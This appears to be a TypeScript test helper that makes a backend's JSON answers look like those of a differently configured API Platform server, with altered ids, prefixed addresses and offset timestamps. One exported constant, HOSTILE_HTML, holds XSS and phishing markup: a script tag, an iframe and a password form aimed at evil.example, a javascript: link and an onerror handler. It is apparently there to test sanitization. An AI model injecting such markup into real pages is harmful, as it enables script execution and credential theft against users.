type Json = Record<string, unknown>;
/** One way of a backend to write an object, by its keys. */
type Habit = (
  key: string,
  value: unknown,
  whole: Json,
) => readonly (readonly [key: string, value: unknown])[];

/** The host and the path before the root of that backend's addresses. */
const ELSEWHERE = "https://api.example/v2";
const INSTANT = /^(\d{4}-\d\d-\d\dT[\d:.]+)Z$/;
/** Texts that are HTML by the contract. */
const HTML_KEY = /^(content|description|biography)(En|Fr)?$/;
/** Markup that an editor may have put into a text of that backend, which does not remove it. */
export const HOSTILE_HTML =
  '<script>window.hostile=1</script><style>main{display:none}</style><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"><button>Go</button></form><p style="position:fixed" class="hostile" onclick="window.hostile=1">hostile words</p><a href="javascript:window.hostile=1">hostile link</a><img src="x" onerror="window.hostile=1">';

/** Habits of API Platform, by default or by configuration, that our API does not have. */
export const HABITS = {
  "leaves out what is null": (key, value) => (value === null ? [] : [[key, value]]),
  "writes no prefix": (key, value) => [[key.replace(/^hydra:/, ""), unprefixed(value)]],
  "adds keys of its own": (key, value) =>
    key === "@id"
      ? [
          [key, value],
          ["legacyId", 7],
          ["owner", { "@type": "Team", id: null }],
        ]
      : [[key, value]],
  "writes ids as text": (key, value) => [[key, key === "id" || isIds(key, value) ? texts(value) : value]],
  "puts a host and a path before addresses": (key, value) => [[key, elsewhere("/api/", value)]],
  "gives whole addresses of media": (key, value) => [[key, elsewhere("media/", value)]],
  "writes instants with an offset": (key, value) => [
    [key, typeof value === "string" ? value.replace(INSTANT, "$1+00:00") : value],
  ],
  "leaves scripts in its texts": (key, value) => [
    [
      key,
      HTML_KEY.test(key) && typeof value === "string" && value.includes("<") ? value + HOSTILE_HTML : value,
    ],
  ],
} satisfies Record<string, Habit>;

/** Ids as that backend may write them: nothing in the specification says that an id is a number. */
export const NAMINGS = {
  "gives addresses for ids": (key, value) => [[key, isIds(key, value) ? value.map(trackAddress) : value]],
  "names things by UUIDs": (key, value) => [[key, renamed(key, value, uuidOf)]],
  "names things by slugs, in their addresses alone": (key, value, whole) =>
    key === "id" && "@id" in whole ? [] : [[key, renamed(key, value, slugOf)]],
} satisfies Record<string, Habit>;

/** The fields that only ours has: of sounds, most of them measured by us, and of the sleeves that we draw. */
const OF_OURS = new Set("analysis durationSeconds estimated loudness nameLang sleeve truePeak".split(" "));

/**
 * Only our API has versions in carts and projects, tells which state of these it sends, measures sounds and draws
 * sleeves.
 */
export const withoutAdditions: Habit = (key, value) =>
  OF_OURS.has(key) ||
  key === "version" ||
  (key === "items" && Array.isArray(value) && value.every((one) => typeof one === "string"))
    ? []
    : [[key, value]];

/** Projects, carts and advice name their tracks and do not send them along. */
export const membersByAddress: Habit = (key, value) => [
  [key, key === "tracks" && Array.isArray(value) ? value.map(addressOfTrack) : value],
];

function addressOfTrack(member: unknown): unknown {
  const address = (member as Json | null)?.["@id"];
  return typeof address === "string" && address.includes("/api/tracks/") ? address : member;
}

const isIds = (key: string, value: unknown): value is number[] =>
  ["tracks", "heard", "downloaded"].includes(key) &&
  Array.isArray(value) &&
  value.every((one) => typeof one === "number");
const trackAddress = (id: number) => `/api/tracks/${id}`;
const uuidOf = (id: string) => `018f3c2a-7b1e-7c3d-9a4b-${id.padStart(12, "0")}`;
const slugOf = (id: string) => `entry-${id}`;
/** Names of that backend's own, and the numbers in them. */
const OWN_NAME = /(?:018f3c2a-7b1e-7c3d-9a4b-0*|entry-)(\d+)/g;
const NUMBER_IN_ADDRESS = /^(\/api\/(?:[a-z_]+\/)+)(\d+)(?=$|[/?])/;

/** Returns the text with our numbers in place of that backend's own names. */
export const numbered = (text: string): string => text.replace(OWN_NAME, "$1");

function renamed(key: string, value: unknown, nameOf: (id: string) => string): unknown {
  if (isIds(key, value)) return value.map((one) => nameOf(String(one)));
  if (Array.isArray(value)) return value.map((one) => renamed("", one, nameOf));
  if (typeof value === "number") return key === "id" || key === "ancestor" ? nameOf(String(value)) : value;
  if (typeof value !== "string") return value;
  return value.replace(NUMBER_IN_ADDRESS, (_, path: string, id: string) => path + nameOf(id));
}

const texts = (value: unknown) => (Array.isArray(value) ? value.map(String) : String(value));
const unprefixed = (value: unknown) =>
  typeof value === "string" && value.startsWith("hydra:") ? value.slice("hydra:".length) : value;

function elsewhere(root: string, value: unknown): unknown {
  if (Array.isArray(value)) return value.map((one) => elsewhere(root, one));
  if (typeof value !== "string" || !value.startsWith(root)) return value;
  return `${ELSEWHERE}${root.startsWith("/") ? "" : "/"}${value}`;
}

/** Returns the answer as a backend with these habits would send it. */
export function rewritten(answer: unknown, habits: readonly Habit[]): unknown {
  if (Array.isArray(answer)) return answer.map((one) => rewritten(one, habits));
  if (typeof answer !== "object" || answer === null) return answer;
  let entries: (readonly [string, unknown])[] = Object.entries(answer);
  for (const habit of habits) entries = entries.flatMap(([key, value]) => habit(key, value, answer as Json));
  return Object.fromEntries(entries.map(([key, value]) => [key, rewritten(value, habits)])) satisfies Json;
}

/** The paths of specification §7, media and health; that backend has no others. */
const SPECIFIED = new RegExp(
  `^/(healthz|media/.+|authentification|api/(user(/me)?(/(\\d+|validation_code|reset_password|cart_download))?|(${[
    "forgot-password|user_playlists|user_playlists_team|user_all_playlists|playlist|conseil|conseil_musicals",
    "referentiels|cms_menus|cms_pages|front/cms_pages|page_seos|carousels|page_writers|page_placements",
    "album_lists_front|album_lists_filters|front/album|tracks|track|front/tracks|tracks_listeneds",
    "track_continents|track_taxonomies|track_terms|front/global_search|front/search_synonyms|front/termsearch",
    "front/file_similarity_search|front/video_similarity_search|front/cart|front/user/(listened|download)/tracks",
    "front/user_profiles|front_list_marker|front_map_list_region|contact_form_entries",
    "conseil_musical_form_entries|competition_check|competition_contests|contest_registrations",
  ].join("|")})(/[^/]+(/(versions|download))?)?))/?$`,
);

/**
 * Answers as `fetch` does, in all that is JSON with these habits and without the headers that only ours has; 404 to what
 * the specification does not name.
 */
export function foreignApi(
  fetch: (request: Request) => Promise<Response>,
  habits: readonly Habit[] = Object.values(HABITS),
): (request: Request) => Promise<Response> {
  return async (request) => {
    const address = numbered(request.url);
    if (!SPECIFIED.test(new URL(address).pathname))
      return Response.json({ title: "An error occurred" }, { status: 404 });
    const headers = new Headers(request.headers);
    for (const name of ["Accept-Encoding", "Content-Length"]) headers.delete(name);
    const isText = headers.get("Content-Type")?.includes("json");
    const answer = await fetch(
      new Request(address, {
        method: request.method,
        headers,
        ...(request.body && { body: isText ? numbered(await request.text()) : request.body, duplex: "half" }),
      }),
    );
    const type = answer.headers.get("content-type") ?? "";
    if (!type.includes("json")) return answer;
    const body = rewritten(await answer.json(), habits);
    return new Response(JSON.stringify(body), { status: answer.status, headers: { "Content-Type": type } });
  };
}
